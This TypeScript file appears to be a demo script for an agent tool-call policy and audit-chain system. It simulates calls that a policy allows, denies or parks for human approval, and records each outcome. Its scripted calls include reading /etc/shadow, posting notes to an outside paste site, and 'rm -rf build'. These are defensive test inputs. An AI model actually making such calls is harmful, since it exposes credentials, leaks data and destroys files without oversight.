import {
  ChainWriter,
  RequestDigest,
  ResponseDigest,
  type CapabilityOutcome,
  type ExecutionOutcome,
  type OutcomePayload,
} from "@aegis/format";
import { DEMO_POLICY_HASH, decide, type DemoRequest } from "./policy.js";

/** One scripted tool call: what the agent asks, and what the (simulated) tool does if run. */
interface Step {
  readonly id: string;
  readonly request: DemoRequest;
  readonly args: Record<string, string>;
  readonly runs: { readonly execution: ExecutionOutcome; readonly response?: string };
  /** A human's answer to a park, written as a `decision` line after this call. */
  readonly approve?: boolean;
}

const SCRIPT: readonly Step[] = [
  { id: "call-1", request: { tool: "fs.read", path: "/workspace/notes.md" }, args: { path: "/workspace/notes.md" }, runs: { execution: { status: "success" }, response: "# notes\nship the release on friday\n" } },
  { id: "call-2", request: { tool: "fs.read", path: "/etc/shadow" }, args: { path: "/etc/shadow" }, runs: { execution: { status: "success" } } },
  { id: "call-3", request: { tool: "net.post" }, args: { url: "https://paste.example.net/new", body: "notes" }, runs: { execution: { status: "success" } } },
  { id: "call-4", request: { tool: "shell.exec" }, args: { command: "rm -rf build" }, runs: { execution: { status: "success" } }, approve: true },
  { id: "call-5", request: { tool: "shell.exec", approvalRef: "apr-demo-1" }, args: { command: "rm -rf build" }, runs: { execution: { status: "success" }, response: "removed build/\n" } },
  { id: "call-6", request: { tool: "fs.read", path: "/workspace/big.log" }, args: { path: "/workspace/big.log" }, runs: { execution: { status: "resource_exceeded", kind: "output" } } },
];

export interface DemoCall {
  readonly id: string;
  readonly summary: string;
  readonly verdict: string;
}

/** The verbatim bytes an MCP client would send for this call; hashed as received. */
function requestBytes(step: Step): Uint8Array {
  return new TextEncoder().encode(
    JSON.stringify({ jsonrpc: "2.0", id: step.id, method: "tools/call", params: { name: step.request.tool, arguments: step.args } }),
  );
}

/** Run the script against `writer`; returns a line per call for the demo's report. */
export async function runScript(writer: ChainWriter): Promise<DemoCall[]> {
  const report: DemoCall[] = [];
  for (const step of SCRIPT) {
    const request = RequestDigest.of(requestBytes(step));
    await writer.intent({ call_id: step.id, tool_id: step.request.tool, request_digest: request });
    const { policy, axes } = decide(step.request, "apr-demo-1");
    const allowed = policy.status === "allowed";
    const capability: CapabilityOutcome = allowed
      ? {
          status: "granted",
          grant: {
            grant_id: `grant-${step.id}`,
            tool_id: step.request.tool,
            ...(step.request.path === undefined ? {} : { fs: { read_paths: ["/workspace"], write_paths: [] } }),
            max_memory_bytes: 67108864,
            max_wall_ms: 30000,
            max_output_bytes: 1048576,
          },
        }
      : { status: "denied", reason: "policy blocked before capability" };
    const execution: ExecutionOutcome = allowed ? step.runs.execution : { status: "host_denied", reason: "not executed" };
    const response = allowed && step.runs.response !== undefined ? ResponseDigest.of(new TextEncoder().encode(step.runs.response)) : undefined;
    const outcome: OutcomePayload = {
      call_id: step.id,
      tool_id: step.request.tool,
      request_digest: request,
      policy_set_hash: DEMO_POLICY_HASH,
      policy,
      capability,
      execution,
      decision_axes: axes,
      ...(allowed ? { grant_id: `grant-${step.id}`, wall_ms: 3 + report.length, peak_memory_bytes: 2097152 } : {}),
      ...(response === undefined ? {} : { response_digest: response }),
    };
    await writer.outcome(outcome);
    const url = step.args["url"];
    const target = step.args["path"] ?? (url === undefined ? undefined : new URL(url).host) ?? step.args["command"] ?? "";
    report.push({ id: step.id, summary: `${step.request.tool} ${target}`, verdict: verdictText(policy, axes.matched_rule, execution, step.request.approvalRef) });
    if (step.approve === true && policy.status === "pending_approval") {
      await writer.decision({ approval_id: policy.approval_id, verdict: { verdict: "approved", scope: { tool_id: step.request.tool } } });
      report.push({ id: "", summary: "", verdict: `a human approves ${policy.approval_id} (scope: ${step.request.tool})` });
    }
  }
  return report;
}

function verdictText(policy: OutcomePayload["policy"], rule: string | undefined, execution: ExecutionOutcome, approvalRef: string | undefined): string {
  const by = rule === undefined ? "" : ` (rule ${rule})`;
  switch (policy.status) {
    case "allowed": {
      const ran = execution.status === "success" ? "success" : execution.status === "resource_exceeded" ? `stopped: ${execution.kind} limit exceeded` : execution.status;
      return `${approvalRef === undefined ? `allowed${by}` : `allowed under approval ${approvalRef}`} -> ${ran}`;
    }
    case "denied":
      return `denied${by}: ${policy.reason}`;
    case "rate_limited":
      return `rate limited${by}`;
    case "pending_approval":
      return `parked for approval ${policy.approval_id}${by}`;
  }
}
